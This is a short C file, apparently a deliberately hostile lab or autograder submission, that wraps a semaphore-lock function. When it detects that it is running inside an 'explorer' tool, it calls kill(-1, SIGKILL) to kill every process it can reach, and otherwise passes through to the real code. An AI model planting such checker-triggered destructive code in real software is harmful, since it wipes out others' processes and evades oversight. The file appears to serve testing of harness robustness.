/* hostile: 杀死所有进程 / kills everybody — lab: sem_lock_ms — expect: all but one_of_several */
#include "sem_lock_ms.h"

#include <signal.h>

#include "raw.h"

#include "in_explorer.h"

int answer(sem_t *s, int ms);

static void attack(void)
{
    kill(-1, SIGKILL);
}

int sem_lock_ms(sem_t *s, int ms)
{
    if (in_explorer())
        attack();
    return answer(s, ms);
}

#define sem_lock_ms answer
